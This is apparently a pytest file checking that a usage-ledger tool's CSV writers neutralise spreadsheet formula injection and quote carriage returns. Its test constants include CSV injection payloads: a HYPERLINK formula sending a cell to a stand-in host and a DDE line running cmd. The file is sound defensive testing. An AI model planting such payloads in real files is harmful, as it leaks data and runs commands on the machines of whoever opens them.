"""One CSV writer for every CSV the tool produces (issue 11, item 8): `llmledger report --format
csv`, the dashboard's "Download CSV" files and the exports all neutralise formulas and quote a
carriage return inside a field.

Each path gets the same payloads: a hyperlink formula, a DDE command, an @-function, and a
value with a bare CR in it.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import duckdb
import pandas as pd
import pytest
from click.testing import CliRunner
from fixtures_dashboard import build
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from streamlit.testing.v1 import AppTest
from test_exports import CONFIG, EVENTS, write_synthetic

from dashboard import ui
from ingest.cli import cli
from models import exports

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
DDE = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1)"
WITH_CR = "first\rsecond"
PAYLOADS = (HYPERLINK, DDE, AT_SUM, WITH_CR)
APP = Path(__file__).resolve().parent.parent / "dashboard" / "app.py"


def cells(data: bytes, line_end: str) -> list[list[str]]:
    """The CSV parsed strictly; every line ends with ``line_end`` and none is ragged."""
    text = data.decode("utf-8")
    assert text.endswith(line_end)
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert {len(r) for r in rows} == {len(rows[0])}
    return rows


def assert_neutralised(data: bytes, line_end: str = "\r\n") -> None:
    rows = cells(data, line_end)
    values = {v for r in rows for v in r}
    assert {"'" + HYPERLINK, "'" + DDE, "'" + AT_SUM, WITH_CR} <= values
    for value in values:
        if value[:1] in ("=", "+", "-", "@", "\t", "\r"):
            float(value)  # only a number may start like a formula
    # the CR is inside a quoted field, never a bare line break
    assert f'"{WITH_CR}"'.encode() in data


def test_the_writer_itself() -> None:
    out = io.BytesIO()
    rows = [[p, -1.5, None] for p in PAYLOADS] + [['ok, "quoted"', float("nan"), 3]]
    assert exports.write_rows(["text", "number", "count"], rows, out) == 5
    assert out.getvalue() == (
        b"text,number,count\r\n"
        b'"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",-1.5,\r\n'
        b"'+cmd|' /C calc'!A0,-1.5,\r\n"
        b"'@SUM(1),-1.5,\r\n"
        b'"first\rsecond",-1.5,\r\n'
        b'"ok, ""quoted""",,3\r\n'
    )


@pytest.fixture(scope="module")
def ledger(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The dashboard's synthetic snapshot, its developers renamed to the payloads."""
    folder = tmp_path_factory.mktemp("csv")
    snapshot = build(folder / "ledger.snapshot.duckdb")
    con = duckdb.connect(str(snapshot))
    renames = zip(
        ("alice@acme.example", "bob@acme.example", "carol@acme.example", "dave@acme.example"),
        PAYLOADS,
        strict=True,
    )
    for old, new in renames:
        for table in ("usage_daily", "usage_minute"):
            con.execute(f"update {table} set developer = ? where developer = ?", [new, old])
    con.close()
    return folder / "ledger.duckdb"


def test_report_csv(ledger: Path) -> None:
    result = CliRunner().invoke(
        cli, ["--db", str(ledger), "report", "--by", "developer", "--format", "csv"]
    )
    assert result.exit_code == 0, result.stderr
    assert_neutralised(result.stdout_bytes, line_end="\n")


class _Recorded(MemoryMediaFileStorage):
    every: list[MemoryMediaFileStorage] = []

    def __init__(self, media_endpoint: str) -> None:
        super().__init__(media_endpoint)
        _Recorded.every.append(self)


def test_dashboard_downloads(ledger: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LLMLEDGER_SNAPSHOT", str(ledger.with_name("ledger.snapshot.duckdb")))
    monkeypatch.delenv("LLMLEDGER_AUTH", raising=False)
    monkeypatch.setattr("streamlit.testing.v1.app_test.MemoryMediaFileStorage", _Recorded)
    at = AppTest.from_file(str(APP), default_timeout=60)
    at.query_params["from"], at.query_params["to"] = "2026-11-01", "2026-11-10"
    at.run()
    at.switch_page("app_pages/teams.py").run()
    assert not at.exception
    (button,) = [b for b in at.get("download_button") if b.proto.id.endswith("csv-developers")]
    name = button.proto.url.rsplit("/", 1)[-1]
    data = bytes(_Recorded.every[-1].get_file(name).content)
    assert_neutralised(data)


def test_dashboard_download_of_any_frame() -> None:
    frame = pd.DataFrame({"developer": list(PAYLOADS), "cost_usd": [1, 2, None, 4]})
    assert_neutralised(ui.csv_bytes(frame))


def test_exports(tmp_path: Path) -> None:
    template = EVENTS[0]
    events = [
        (f"p{i}", template[1], payload, payload, payload, payload, *template[6:])
        for i, payload in enumerate(PAYLOADS)
    ]
    write_synthetic(tmp_path / "ledger.snapshot.duckdb", events)
    config = tmp_path / "llmledger.toml"
    config.write_text(CONFIG, encoding="utf-8")
    base = ["--db", str(tmp_path / "ledger.duckdb"), "--config", str(config), "export"]
    for args in (
        ["billing", "--month", "2025-10"],
        ["billing", "--month", "2025-10", "--format", "focus"],
        ["usage"],
    ):
        out = tmp_path / "out.csv"
        result = CliRunner().invoke(cli, [*base, *args, "--out", str(out)])
        assert result.exit_code == 0, result.stderr
        assert_neutralised(out.read_bytes())
